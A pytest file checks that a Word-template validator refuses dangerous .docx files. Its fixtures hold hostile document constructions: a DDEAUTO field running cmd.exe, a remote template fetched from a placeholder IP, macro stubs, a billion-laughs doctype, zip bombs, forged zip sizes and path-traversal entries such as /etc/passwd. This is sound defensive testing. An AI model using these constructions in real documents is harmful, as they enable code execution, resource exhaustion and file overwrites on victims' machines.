"""An office's own template: used where it is plain, refused with a reason where it is not."""

import re
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx as word_files
import pytest
from docx.shared import Cm, RGBColor

from smup.documents.docx import docx
from smup.documents.template import MOST_BYTES, UnsafeTemplate, checked
from tests.documents.office import parts
from tests.documents.sample import sample

Parts = dict[str, bytes]
RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = "word/document.xml"


def office_template() -> bytes:
    """What an office keeps: a header, a page of its own, headings of its own, an old text."""
    word = word_files.Document()
    section = word.sections[0]
    section.left_margin = section.right_margin = Cm(4)
    section.header.paragraphs[0].text = "Urząd Gminy – nagłówek z herbem"
    section.footer.paragraphs[0].text = "ul. Główna 1"
    heading = word.styles["Heading 1"]
    heading.font.color.rgb = RGBColor(0x80, 0x00, 0x00)
    word.add_paragraph("Dawna treść pisma")
    saved = BytesIO()
    word.save(saved)
    return as_in_poland(saved.getvalue())


def as_in_poland(template: bytes) -> bytes:
    """Word of another language keeps its own ids of styles; the names inside stay English."""
    inside = parts(template)
    for name in ("word/styles.xml", BODY):
        inside[name] = inside[name].replace(b'"Heading1"', b'"Nagwek1"')
    return zipped(inside)


def zipped(inside: Parts) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
        for name, content in inside.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def related(inside: Parts, kind: str, target: str, *, outside: bool = False) -> None:
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="rId990" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    inside[RELS] = inside[RELS].replace(b"</Relationships>", f"{one}</Relationships>".encode())


def in_body(inside: Parts, xml: str) -> None:
    inside[BODY] = inside[BODY].replace(b"<w:body>", f"<w:body>{xml}".encode())


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def macros(inside: Parts) -> None:
    inside["word/vbaProject.bin"] = b"Sub AutoOpen()"
    related(inside, "vbaProject", "vbaProject.bin")


def macro_type(inside: Parts) -> None:
    inside["[Content_Types].xml"] = inside["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def ribbon_of_package(inside: Parts) -> None:
    """Related to the package, not to its text."""
    one = f'<Relationship Id="rId9" Type="{OFFICE}/extensibility" Target="a.xml"/>'
    name = "_rels/.rels"
    inside[name] = inside[name].replace(b"</Relationships>", f"{one}</Relationships>".encode())


def ribbon(inside: Parts) -> None:
    inside["customUI/customUI.xml"] = b"<customUI/>"


def linked_template(inside: Parts) -> None:
    inside["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
        'Target="http://198.51.100.1/a.dotm" TargetMode="External"/></Relationships>'
    ).encode()


def billion(inside: Parts) -> None:
    inside[BODY] = inside[BODY].replace(
        b"<w:document", b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w:document'
    )


def in_utf_16(inside: Parts) -> None:
    """Definitions that a search for the bytes of the word would not find."""
    billion(inside)
    text = inside[BODY].decode().replace("encoding='UTF-8'", "encoding='UTF-16'")
    assert "UTF-16" in text
    inside[BODY] = text.encode("utf-16")


def bomb(inside: Parts) -> None:
    inside["word/media/image9.png"] = b"\0" * 30_000_000


def many(inside: Parts) -> None:
    inside |= {f"word/media/{n}.png": b"x" for n in range(1_001)}


def nested(inside: Parts) -> None:
    inside["word/media/image9.png"] = zipped({"a": b"\0" * 1000})


def old_vml(inside: Parts) -> None:
    in_body(
        inside,
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata src="file://198.51.100.1/a.png"/></v:shape></w:pict></w:r></w:p>',
    )


def scripted(inside: Parts) -> None:
    inside["word/media/a.svg"] = b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'


def disguised(inside: Parts) -> None:
    """The text of the document under a name that is not looked into."""
    inside["word/document.png"] = inside.pop(BODY)
    for name in ("[Content_Types].xml", "_rels/.rels"):
        inside[name] = inside[name].replace(b"word/document.xml", b"word/document.png")


def merged(inside: Parts) -> None:
    name = "word/settings.xml"
    merge = b'<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>'
    inside[name] = inside[name].replace(b"</w:settings>", merge)


DANGERS: list[tuple[str, Callable[[Parts], None], str]] = [
    ("macros", macros, "vbaProject.bin"),
    ("macros", macro_type, "document.xml"),
    ("macros", ribbon, "customUI"),
    ("macros", ribbon_of_package, "a.xml"),
    ("outside", linked_template, "http://198.51.100.1/a.dotm"),
    ("outside", lambda p: related(p, "image", "http://198.51.100.1/a.png", outside=True), "a.png"),
    ("outside", lambda p: related(p, "image", "\\\\198.51.100.1\\a.png"), "a.png"),
    ("outside", lambda p: related(p, "hyperlink", "file:///c:/a.exe", outside=True), "a.exe"),
    ("outside", old_vml, "a.png"),
    ("embedded", lambda p: related(p, "oleObject", "embeddings/oleObject1.bin"), "oleObject1.bin"),
    ("embedded", lambda p: related(p, "control", "activeX/activeX1.xml"), "activeX1.xml"),
    ("embedded", lambda p: related(p, "aFChunk", "a.html"), "a.html"),
    ("embedded", nested, "image9.png"),
    ("embedded", lambda p: p.update({"word/a.exe": b"MZ"}), "word/a.exe"),
    ("macros", scripted, "a.svg"),
    ("path", disguised, "/word/document.png"),
    ("outside", merged, "settings.xml"),
    ("damaged", lambda p: p.pop(BODY), "word"),
    ("field", lambda p: in_body(p, field('INCLUDEPICTURE "http://198.51.100.1/a.png"')), BODY),
    ("field", lambda p: in_body(p, field("INCLUDE", 'TEXT "c:/a.docx"')), BODY),
    ("field", lambda p: in_body(p, field('DDEAUTO c:\\\\cmd.exe "/k calc"')), BODY),
    ("field", lambda p: in_body(p, '<w:p><w:fldSimple w:instr="MACROBUTTON a b"/></w:p>'), BODY),
    ("doctype", billion, BODY),
    ("doctype", in_utf_16, BODY),
    ("swells", bomb, "image9.png"),
    ("many", many, ""),
    ("path", lambda p: p.update({"../../etc/cron.d/a": b"x"}), "../../etc/cron.d/a"),
    ("path", lambda p: p.update({"/etc/passwd": b"x"}), "/etc/passwd"),
    ("path", lambda p: p.update({"word\\..\\a": b"x"}), "word"),
    ("damaged", lambda p: p.update({BODY: p[BODY][:-20]}), BODY),
    ("no_docx", lambda p: p.pop("[Content_Types].xml"), "[Content_Types].xml"),
]


@pytest.mark.parametrize(("danger", "spoil", "place"), DANGERS)
def test_dangers_are_refused_with_place_and_advice(
    danger: str, spoil: Callable[[Parts], object], place: str
) -> None:
    inside = parts(office_template())
    checked(zipped(inside))  # it is the spoiling that is refused
    spoil(inside)
    with pytest.raises(UnsafeTemplate) as refused:
        checked(zipped(inside))
    assert refused.value.danger == danger
    for said in (refused.value.said("pl"), refused.value.said("en")):
        assert place in said
        assert len(re.findall(r"[.)](?: |$)", said)) >= 2  # what is wrong and what to do
    assert str(refused.value) == refused.value.said("pl")


@pytest.mark.parametrize(
    ("template", "danger"),
    [
        (b"", "no_docx"),
        (b"To nie jest zip", "no_docx"),
        (b"%PDF-1.7", "no_docx"),
        (zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), "no_docx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old"),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "password"),
        (b"PK" + b"\0" * MOST_BYTES, "large"),
    ],
)
def test_what_is_no_docx(template: bytes, danger: str) -> None:
    with pytest.raises(UnsafeTemplate) as refused:
        checked(template)
    assert refused.value.danger == danger


def test_a_locked_entry_is_refused() -> None:
    template = bytearray(office_template())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # where a zip says it is locked
        template[template.index(mark) + at] |= 1
    with pytest.raises(UnsafeTemplate) as refused:
        checked(bytes(template))
    assert refused.value.danger == "password"


def test_a_lie_about_a_size_is_found_out() -> None:
    """A part that unpacks to more than the zip says."""
    squeezed = zlib.compress(b"\0" * 40_000_000)[2:-4]
    template = bytearray(zipped({**parts(office_template()), "word/a.bin": b"x" * 50}))
    with ZipFile(BytesIO(bytes(template))) as archive:
        entry = archive.getinfo("word/a.bin")
    start = entry.header_offset + 30 + len("word/a.bin")
    packed = template[:start] + squeezed + template[start + entry.compress_size :]
    moved = len(squeezed) - entry.compress_size
    central = packed.index(b"PK\x01\x02", start + len(squeezed))
    name = packed.rindex(b"word/a.bin")
    packed[name - 26 : name - 22] = len(squeezed).to_bytes(4, "little")
    end = packed.rindex(b"PK\x05\x06")
    packed[end + 16 : end + 20] = central.to_bytes(4, "little")
    assert moved > 30_000
    with pytest.raises(UnsafeTemplate) as refused:
        checked(bytes(packed))
    assert refused.value.danger in ("damaged", "swells")


def test_a_template_without_a_page_gets_ours() -> None:
    inside = parts(office_template())
    inside[BODY] = re.sub(rb"<w:sectPr.*</w:sectPr>", b"", inside[BODY], flags=re.DOTALL)
    assert b"sectPr" not in inside[BODY]
    word = word_files.Document(BytesIO(docx(sample(), zipped(inside))))
    assert word.paragraphs[1].text == "Raport o stanie gminy Gżegżółki"


def test_a_link_to_the_offices_page_is_allowed() -> None:
    inside = parts(office_template())
    related(inside, "hyperlink", "https://gmina.example.pl", outside=True)
    checked(zipped(inside))


def test_styles_page_header_and_footer_are_the_offices() -> None:
    made = docx(sample(), office_template())
    word = word_files.Document(BytesIO(made))
    assert word.styles["Heading 1"].font.color.rgb == RGBColor(0x80, 0x00, 0x00)
    assert [p.text for p in word.paragraphs if p.style and p.style.style_id == "Nagwek1"] == [
        "Co wiadomo i za który rok",
        "Edukacja",
        "Realizacja polityk, programów i strategii",
        "Metodologia i źródła",
    ]
    section = word.sections[0]
    assert section.left_margin is not None
    assert round(section.left_margin.cm, 2) == 4
    assert section.header.paragraphs[0].text == "Urząd Gminy – nagłówek z herbem"
    assert [one.text for one in section.footer.paragraphs] == [
        "ul. Główna 1",
        "Strona 1 · Wydanie 2026-05-04 · Dane zmyślone – nie do użytku",
    ]
    text = parts(made)[BODY].decode()
    assert "Dawna treść" not in text
    known = set(re.findall(r'w:styleId="(\w+)"', parts(made)["word/styles.xml"].decode()))
    assert set(re.findall(r'<w:[prt]\w*Style w:val="(\w+)"', text)) <= known
    assert {"Note", "ReportTable", "TableNumber"} <= known


def test_pictures_fit_the_offices_page() -> None:
    made = docx(sample(), office_template())
    text = parts(made)[BODY].decode()
    section = word_files.Document(BytesIO(made)).sections[0]
    widest = max(int(width) for width in re.findall(r'<wp:extent cx="(\d+)"', text))
    assert section.page_width is not None
    assert widest <= section.page_width - 2 * Cm(4)


def test_a_page_number_of_the_office_is_not_said_twice() -> None:
    inside = parts(office_template())
    footer = next(name for name in inside if "footer" in name and name.endswith(".xml"))
    inside[footer] = inside[footer].replace(b"</w:ftr>", field("PAGE").encode() + b"</w:ftr>")
    made = docx(sample(), zipped(inside))
    footers = [text.decode() for name, text in parts(made).items() if "word/footer" in name]
    assert sum(text.count("PAGE") for text in footers) == 1
    assert any("Wydanie 2026-05-04 · Dane zmyślone" in text for text in footers)


def test_a_template_for_new_documents_becomes_a_document() -> None:
    inside = parts(office_template())
    types = inside["[Content_Types].xml"]
    inside["[Content_Types].xml"] = types.replace(b"document.main+xml", b"template.main+xml")
    made = docx(sample(), zipped(inside))
    assert b"template.main+xml" not in parts(made)["[Content_Types].xml"]


def test_nothing_of_the_old_text_travels_on() -> None:
    inside = parts(office_template())
    inside["word/comments.xml"] = (
        b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    )
    inside["[Content_Types].xml"] = inside["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.wordprocessingml.comments+xml"/></Types>',
    )
    related(inside, "comments", "comments.xml")
    made = docx(sample(), zipped(inside))
    assert not [name for name in parts(made) if "comments" in name or "customXml" in name]


def test_the_same_bytes_from_a_template() -> None:
    template = office_template()
    assert docx(sample(), template) == docx(sample(), template)
